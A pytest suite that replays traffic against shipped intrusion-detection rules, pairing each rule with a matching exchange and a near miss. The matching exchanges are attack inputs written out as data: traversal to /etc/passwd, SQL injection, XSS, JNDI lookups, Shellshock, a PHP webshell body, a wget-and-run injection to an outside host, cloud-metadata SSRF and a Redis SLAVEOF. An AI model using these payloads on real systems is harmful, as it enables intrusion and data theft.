"""Every shipped rule that looks inside stops an exchange that it should stop, and lets one pass that looks much like it."""

import re
import ssl
import struct
import subprocess
import sys
from pathlib import Path

import pytest
from exchanges import Capture, answered, asked, datagram, get, greeted, http, post, question, request, resolved, response, told

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "stages"))
from hellos import client_hello, handshake, record, sni  # noqa: E402

RULES = Path(__file__).resolve().parents[2] / "rules"
HOME = "HOME_NET=[10.0.0.0/8,fd00::/8]"
JAVA = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap"


def agent(hit, miss="Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"):
    return get("/", f"User-Agent: {hit}"), get("/", f"User-Agent: {miss}")


WEB = {
    9000401: (get("/show?f=../../secret"), get("/show?f=../secret")),
    9000402: (get("/cgi-bin/.%2e/.%2e/x"), get("/report%2epdf")),
    9000403: (get("/show?f=/etc/passwd"), get("/etc/passwords.html")),
    9000404: (get("/show?f=c:/Windows/win.ini"), get("/darwin.initial")),
    9000405: (get("/i?id=1+UNION+ALL+SELECT+a"), get("/news?title=union-members-select-leader")),
    9000406: (post(b"id=1 union/**/select pw"), post(b"text=The union will now select somebody")),
    9000407: (get("/i?t=Information_Schema.tables"), get("/information/schema")),
    9000408: (get("/i?id=1'and(select*from(select(sleep(5)))a)"), get("/i?song=sleep(song)")),
    9000409: (get("/i?q=exec+XP_CMDSHELL"), get("/i?q=cmdshell")),
    9000410: (get("/s?q=<ScRipt>alert(1)</script>"), get("/s?q=<scripture>")),
    9000411: (get("/s?q=<img/src=x/onerror=alert(1)>"), get("/s?onerror=stop")),
    9000412: (get("/s?q=${jndi:ldap://198.51.100.9/a}"), get("/s?q=$jndi:ldap")),
    9000413: (get("/", "User-Agent: ${jndi:ldap://198.51.100.9/a}"), get("/", "User-Agent: jndi:ldap")),
    9000414: (post(b"name=${JNDI:dns://x}"), post(b"name={jndi:dns}")),
    9000415: (get("/", "Cookie: s=${jndi:rmi://x}"), get("/", "Cookie: s=jndi:rmi://x")),
    9000416: (get("/", "X-Api-Version: ${${lower:j}${upper:n}di:ldap://x/a}"), get("/", "X-Template: ${a} and ${b}")),
    9000417: (get("/cgi-bin/a", "Referer: () { :; }; /bin/id"), get("/", "X-Code: function () { return; }")),
    9000418: (get("/i?page=php://filter/convert.base64-encode/resource=x"), get("/wiki/php://input")),
    9000419: (post(b"--x\r\n\r\n<?PHP system($_GET[0]);"), post(b"<?xml version='1.0'?>")),
    9000420: (get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
              get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.phps")),
    9000421: (get("/x?class.module.classLoader.resources=1"), get("/docs/class.module.html")),
    9000422: (post(b"class.module.classLoader.resources=1"), post(b"class.module=1")),
    9000423: (get("/", "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT)}"),
              get("/", "Content-Type: text/ognl")),
    9000424: (get("/${(#a=@java.lang.Runtime@getRuntime())}/"), get("/docs/${java.home}/")),
    9000425: (post(b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>'), post(b'<!DOCTYPE a [<!ENTITY x "SYSTEM">]>')),
    9000426: (get("/fetch?url=http://169.254.169.254/latest/meta-data"), get("/fetch?url=http://169.254.169.25/")),
    9000427: (get("/.git/HEAD"), get("/project.git/HEAD")),
    9000428: (get("/app/.env"), get("/.environment")),
    9000429: (get("/home/.aws/credentials"), get("/aws/credentials")),
    9000430: (get("/wp-config.php.bak"), get("/docs/wp-config.php")),
    9000431: (get("/i?host=1;/bin/sh"), get("/usr/bin/sh.html")),
    9000432: (get("/i?host=1;wget+http://198.51.100.9/a.sh"), get("/how-to-wget?then=http://example.org/")),
    9000433: (post(JAVA), post(b"x" + JAVA)),
    9000434: (get("/", "Cookie: session=rO0ABXNyABFqYXZhLnV0aWw"), get("/", "Cookie: session=xrO0ABXNyABFqYXZhLnV0aWw")),
    9000435: (get("/r?to=%0d%0aSet-Cookie:a=b"), get("/r?text=line%0d%0aline")),
    9000436: (get("/show?f=a.php%00.png"), get("/show?f=%001")),
    9000437: (http(request("/", method="TRACE")), http(request("/", method="TRACK"))),
    9000438: (http(request("198.51.100.9:443", method="CONNECT")), get("/CONNECT")),
    9000439: (get("/" + "a" * 4000), get("/" + "a" * 3999)),
    9000440: (get("/", host="203.0.113.80"), get("/", host="203.0.113.80.example.org")),
    9000441: (answered(b"root:x:0:0:root:/root:/bin/bash\nbin:x:1:1:bin:/bin:/bin/sh\n"), answered(b"say root:x:0:0:\n")),
    9000442: (answered(b"<pre>uid=0(root) gid=0(root) groups=0(root)</pre>"), answered(b"uid=1000(fox) gid=1000(fox)")),
    9000443: (answered(b"-----BEGIN RSA PRIVATE KEY-----\nMII"), answered(b"-----BEGIN PUBLIC KEY-----\nMII")),
    9000444: (answered(b"<html><title>Index of /backup</title>"), answered(b"<title>Index of /x</title>", status="404 Not Found")),
    9000445: (answered(b"You have an error in your SQL syntax; check"), answered(b"You have an error in your syntax")),
}
SCANNERS = {
    9000501: agent("sqlmap/1.8#stable (https://sqlmap.org)", "sqlmapper"),
    9000502: agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "Nikto/2.5.0 fan club"),
    9000503: agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Nmap"),
    9000504: agent("masscan/1.3", "masscanner"),
    9000505: agent("Mozilla/5.0 zgrab/0.x", "zgrabber"),
    9000506: agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Nuclei 2"),
    9000507: agent("gobuster/3.6", "not gobuster/3.6"),
    9000508: agent("DirBuster-1.0-RC1 (http://www.owasp.org)", "DirBuster"),
    9000509: agent("feroxbuster/2.10.4", "my feroxbuster/2"),
    9000510: agent("WPScan v3.8.25 (https://wpscan.com)", "WPScanner v3"),
    9000511: agent("Fuzz Faster U Fool v2.1.0", "Fuzz Faster"),
    9000512: agent("Mozilla/5.0 (Hydra)", "Mozilla/5.0 Hydra"),
    9000513: agent("WhatWeb/0.5.5", "AWhatWeb/0.5.5"),
    9000514: agent("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)", "OpenVASx"),
    9000515: (get("/nice%20ports%2C/Tri%6Eity.txt%2ebak"), get("/nice%20ports/Trinity.txt.bak")),
    9000516: (get("/", "X-Scanner: Netsparker"), get("/", "X-Scanners: Netsparker")),
    9000517: (get("/", "Referer: http://www.acunetix-referrer.com/javascript:domxss"), get("/", "X-Referer: acunetix")),
    9000518: (datagram(5060, b"OPTIONS sip:100@10.1.2.3 SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n"),
              datagram(5060, b"OPTIONS sip:100@10.1.2.3 SIP/2.0\r\nX-User-Agent: friendly-scanner\r\n\r\n")),
    9000519: (told(22, b"SSH-2.0-libssh_0.9.6\r\n"), told(22, b"SSH-2.0-OpenSSH_9.2p1\r\n")),
    9000520: (told(22, b"SSH-2.0-Go\r\n"), told(22, b"SSH-2.0-GoAnywhere\r\n")),
}
LABEL = "abcdefghijklmnopqrstuvwxyz0123456789abcdefghijklmnopqr"
DNS = {
    9000601: (asked(".".join([LABEL[:40]] * 4) + ".t.example.org"), asked(".".join([LABEL[:30]] * 4) + ".t.example.org")),
    9000602: (asked(f"{LABEL}.{LABEL}.t.example.org"), asked(f"{LABEL}.{LABEL[:40]}.t.example.org")),
    9000603: (asked("v.t.example.org", 10), asked("v.t.example.org", 16)),
    9000604: (asked("example.org", 255, outward=False), asked("example.org", 252, outward=False)),
    9000605: (told(53, struct.pack("!H", 29) + question("example.org", 252)),
              told(53, struct.pack("!H", 29) + question("example.org", 6))),
    9000606: (asked("VERSION.bind", 16, outward=False), asked("version.binding", 16, outward=False)),
    9000607: (asked("abcdefgh.onion"), asked("onion.example.org")),
    9000608: (resolved("a.example.org", "127.0.0.1"), resolved("a.example.org", "128.0.0.1")),
    9000609: (resolved("b.example.org", "192.168.1.1"), resolved("b.example.org", "192.169.1.1")),
    9000610: (asked("my.DuckDNS.org"), asked("myduckdns.org")),
    9000611: (asked("a1b2.ngrok.io"), asked("ngrok.io.example.org")),
    9000612: (asked("wpad.com"), asked("wpad.example.org")),
    9000613: (asked("pool.supportxmr.com"), asked("xmracing.com")),
    9000614: (asked("example.org", count=2), asked("example.org")),
    9000615: (datagram(53, b"x" * 16, outward=True), datagram(53, question(""), outward=True)),
}


def beat(carried, claimed):
    """A TLS heartbeat request that carries so many bytes in all and says that so many are its payload."""
    return struct.pack("!BHHBH", 24, 0x0302, carried, 1, claimed) + bytes(carried - 3)


def smb(head, command):
    return struct.pack("!I", 35) + head + command + bytes(30)


def mongo(opcode, text):
    body = text + bytes(8)
    return struct.pack("<4I", 16 + len(body), 1, 0, opcode) + body


RDP = b"\x03\x00\x00\x2b\x26\xe0\x00\x00\x00\x00\x00Cookie: mstshash=admin\r\n"
PROTOCOLS = {
    9000701: (told(4000, RDP), told(4000, b"\x02" + RDP[1:])),
    9000702: (told(4000, smb(b"\xffSMB", b"\x72")), told(4000, smb(b"\xffSMB", b"\x73"))),
    9000703: (told(4000, smb(b"\xfeSMB", b"\x40")), told(4000, b"x" + smb(b"\xfeSMB", b"\x40"))),
    9000704: (told(4000, b"*4\r\n$6\r\nconfig\r\n$3\r\nSET\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n"),
              told(4000, b"*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n")),
    9000705: (told(4000, b"*3\r\n$7\r\nSLAVEOF\r\n$9\r\n192.0.2.1\r\n$4\r\n6379\r\n"),
              told(4000, b"*3\r\n$3\r\nSET\r\n$7\r\nSLAVEOF\r\n$1\r\n1\r\n")),
    9000706: (post(b"{}", target="/v1.41/containers/create?name=x"), get("/v1.41/containers/create")),
    9000707: (get("/api/v1/namespaces/default/secrets"), get("/api/v2/secrets")),
    9000708: (post(b"{}", target="/ws/v1/cluster/apps/new-application"), get("/ws/v1/cluster/apps")),
    9000709: (post(b"script=1", target="/scriptText"), get("/scripts")),
    9000710: (get("/actuator/heapdump"), get("/actuator/health")),
    9000711: (get("/_cat/indices"), get("/_catalog/indices")),
    9000712: (told(4000, b"CNXN\0\0\0\x01\0\x10\0\0host::"), told(4000, b"CNXN\0\0\0\x02\0\x10\0\0host::")),
    9000713: (greeted(4000, b"RFB 003.008\n"), greeted(4000, b"RFB 003.008 \n")),
    9000714: (greeted(4000, b"\xff\xfd\x18\xff\xfd\x20"), greeted(4000, b"\xff\xfb\x18\xff\xfd\x20")),
    9000715: (greeted(4000, b"\x4a\0\0\0\x0a8.0.36\0" + bytes(60) + b"caching_sha2_password\0"),
              greeted(4000, b"\x4a\0\0\0\x098.0.36\0mysql_native_password\0")),
    9000716: (told(4000, struct.pack("!II", 23, 0x30000) + b"user\0postgres\0\0"),
              told(4000, struct.pack("!II", 23, 0x20000) + b"user\0postgres\0\0")),
    9000717: (told(4000, mongo(2004, b"\0\0\0\0admin.$cmd\0")), told(4000, mongo(2004, b"\0\0\0\0admin.users\0"))),
    9000718: (told(4000, mongo(2013, b"\0\0\0\0\0$db\0admin\0")), told(4000, mongo(2012, b"\0\0\0\0\0$db\0admin\0"))),
    9000719: (datagram(11211, b"\0\1\0\0\0\1\0\0stats\r\n"), datagram(11211, b"\0\1\0\0\0\1\0\0get a\r\n")),
    9000720: (datagram(123, b"\x17\0\x03\x2a" + bytes(4)), datagram(123, b"\x16\0\x03\x2a" + bytes(4))),
    9000721: (datagram(161, b"\x30\x26\x02\x01\x01\x04\x06public\xa0\x19" + bytes(25)),
              datagram(161, b"\x30\x26\x02\x01\x01\x04\x06publix\xa0\x19" + bytes(25))),
    9000722: (datagram(1900, b'M-SEARCH * HTTP/1.1\r\nST: ssdp:all\r\nMAN: "ssdp:discover"\r\n\r\n'),
              datagram(1900, b"NOTIFY * HTTP/1.1\r\nNTS: ssdp:alive\r\n\r\n")),
    9000723: (datagram(389, b"\x30\x25\x02\x01\x01\x63\x20" + bytes(17) + b"\x87\x0bobjectClass\x30\0"),
              datagram(389, b"\x31\x25\x02\x01\x01\x63\x20" + bytes(17) + b"\x87\x0bobjectClass\x30\0")),
    9000724: (datagram(623, b"\x06\0\xff\x07" + bytes(8)), datagram(623, b"\x06\0\xff\x06" + bytes(8))),
    9000725: (told(2222, b"SSH-2.0-OpenSSH_9.2p1\r\n"), told(22, b"SSH-2.0-OpenSSH_9.2p1\r\n")),
    9000726: (told(502, b"\0\1\0\0\0\6\1\6\0\1\0\3"), told(502, b"\0\1\0\0\0\6\1\3\0\1\0\3")),
    9000727: (told(4000, b"@RSYNCD: 31.0\n"), told(4000, b"@RSYNCX: 31.0\n")),
    9000728: (told(4000, beat(3, 16384)), told(4000, beat(40, 21))),
    9000729: (told(4000, b"JRMI\0\2K"), told(4000, b"JRMI\0\2N")),
    9000730: (told(4000, b"t3 12.2.1\nAS:255\nHL:19\n\n"), told(4000, b"t3 12.2.1\nHL:19\nAS:255\n\n")),
}


def hello(name, outward=True, version=0x0301):
    return told(8443, record(client_hello(sni(name.encode())), version=version), outward=outward)


TLS = {
    9000801: (hello("abcdefgh.onion"), hello("onion.example.org")),
    9000802: (hello("a1b2.NGROK.io"), hello("a1b2ngrok.io")),
    9000803: (hello("abcdefgh.onion.ly"), hello("red.onion.market")),
    9000807: (told(8443, record(client_hello(None, version=0x0300), version=0x0300)), hello("old.example.org", version=0x0300)),
    9000808: (hello("pool.minexmr.com"), hello("xmr.example.org")),
}
CERTIFICATES = {
    9000804: (("0x08BB00EE", "/C=US/O=Company/CN=Somebody"), ("0x08BB00EF", "/C=US/O=Company/CN=Somebody")),
    9000805: (("1", "/CN=AsyncRAT Server"), ("1", "/CN=Async Server")),
    9000806: (("2", "/C=AU/ST=Some-State/O=Internet Widgits Pty Ltd"), ("2", "/C=AU/ST=Some-State/O=Internet Widgets")),
}
BENCH = {
    9000351: (get("/a?f=../../x"), get("/a?f=../x")),
    9000352: (get("/a?f=/etc/passwd"), get("/etc/pass")),
    9000353: (get("/a?q=Union+Select+1"), get("/a?q=select+union")),
    9000354: (get("/a?q=<SCRIPT>"), get("/a?q=script")),
    9000355: (get("/", "X-A: ${JNDI:x}"), get("/", "X-A: {jndi:x}")),
    9000356: (get("/", "X-A: () { :; }"), get("/", "X-A: (){ :; }")),
    9000357: agent("sqlmap/1.8", "sqlmap"),
    9000358: agent("x Nikto/2", "Nikto 2"),
    9000359: (get("/.env"), get("/.env.example")),
    9000360: (get("/.git/config"), get("/.git/configs")),
    9000361: (post(b"<?php"), post(b"<?xml")),
    9000362: (get("/?u=169.254.169.254"), get("/?u=169.254.169.25")),
    9000363: (http(request(method="TRACE")), http(request(method="TRACES"))),
    9000364: (get("/", host="www.blocked.example"), get("/", host="blocked.example.org")),
    9000365: (get("/", "Cookie: a=b; role=admin"), get("/", "Cookie: a=b; role=administration")),
    9000366: (answered(b"root:x:0:0:"), answered(b"root:x:0:1:")),
    9000367: (answered(b"MZ\x90..This program cannot be run in DOS mode"), answered(b" MZ This program cannot be run in DOS mode")),
    9000368: (asked("a.blocked.example"), asked("unblocked.example")),
    9000369: (hello("a.blocked.example"), hello("blocked.example.org")),
    9000370: (told(4000, smb(b"\xffSMB", b"\x72")), told(4000, smb(b"\xffSMB", b"\x71"))),
    9000371: (datagram(123, b"\x17\0\x03\x2a" + bytes(4)), datagram(123, b"\x17\0\x03\x2b" + bytes(4))),
    9000372: (told(23, b"x"), told(24, b"x")),
    9000373: (told(445, b"x"), told(446, b"x")),
    9000374: (told(22, b"x"), told(222, b"x")),
}
FILES = {"web-attacks.rules": WEB, "scanners.rules": SCANNERS, "dns-abuse.rules": DNS, "exposed-protocols.rules": PROTOCOLS,
         "tls-abuse.rules": TLS, "bench-24-content.rules": BENCH}
RATES = {9000446: ("web-attacks.rules", 30, "401 Unauthorized"), 9000521: ("scanners.rules", 100, "404 Not Found")}


def actions(name):
    """{sid: action} of a rule file, by its text."""
    return {int(re.search(r"sid: (\d+)", line)[1]): line.split()[0]
            for line in (RULES / name).read_text().splitlines() if line and not line.startswith("#")}


def handshaken(folder, number, text):
    """A connection to a TLS 1.2 server outside, whose certificate has this serial number and subject."""
    cert, key = folder / f"{number}.pem", folder / f"{number}.key"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-subj", text,
                    "-set_serial", number, "-days", "9", "-keyout", key, "-out", cert], check=True, capture_output=True)
    client, server = handshake(cert, key, ssl.TLSVersion.TLSv1_2)
    return "tcp", 8443, True, [(True, client[:client.index(b"\x16\x03\x03", 9)]), (False, server)]


@pytest.fixture(scope="module", params=FILES)
def replayed(request, tmp_path_factory):       # noqa: F811, pytest's name
    """(file, {sid: (events of its match, events of its near miss)}) of all cases of a file in one capture."""
    folder = tmp_path_factory.mktemp("shipped")
    cases = dict(FILES[request.param])
    if request.param == "tls-abuse.rules":
        cases |= {sid: tuple(handshaken(folder, *of) for of in pair) for sid, pair in CERTIFICATES.items()}
    capture = Capture()
    ports = {sid: tuple(capture.add(exchange) for exchange in pair) for sid, pair in cases.items()}
    found = capture.replay(folder, "--rules", RULES / request.param, "--var", HOME)
    return request.param, {sid: tuple(found.get(port, []) for port in pair) for sid, pair in ports.items()}


def sids(events):
    return [event["alert"]["signature_id"] for event in events if event["event_type"] == "alert"]


def test_every_rule_that_looks_inside_has_its_cases():
    for name, cases in FILES.items():
        covered = [*cases, *(sid for sid, (file, *_) in RATES.items() if file == name)]
        covered += CERTIFICATES if name == "tls-abuse.rules" else []
        assert sorted(covered) == sorted(actions(name))


def test_rules_stop_and_let_pass(replayed):
    """A drop reports once, blocks, and stops that packet and what follows; a near miss is not hit by that rule."""
    name, found = replayed
    wrong = {}
    for sid, action in actions(name).items():
        if sid in RATES:
            continue
        hit, miss = found[sid]
        alerts = [event for event in hit if event["event_type"] == "alert" and event["alert"]["signature_id"] == sid]
        wanted = "allowed" if action == "alert" else "blocked"
        stopped = any(event["event_type"] == "drop" for event in hit)
        if [event["alert"]["action"] for event in alerts] != [wanted] or (action == "drop") > stopped:
            wrong[sid] = "its match", action, sids(hit), stopped
        elif sid in sids(miss):
            wrong[sid] = "its near miss", sids(miss)
    assert not wrong


@pytest.mark.parametrize("sid", RATES)
def test_rate_rule_of_answers_counts_by_client(tmp_path, sid):
    name, count, status = RATES[sid]
    capture = Capture()
    ports = [capture.add(http(request("/login"), answer=response(b"no", status=status))) for _ in range(count + 2)]
    found = capture.replay(tmp_path, "--rules", RULES / name, "--var", HOME)
    assert [sids(found.get(port, [])) for port in ports] == [[]] * count + [[sid]] * 2
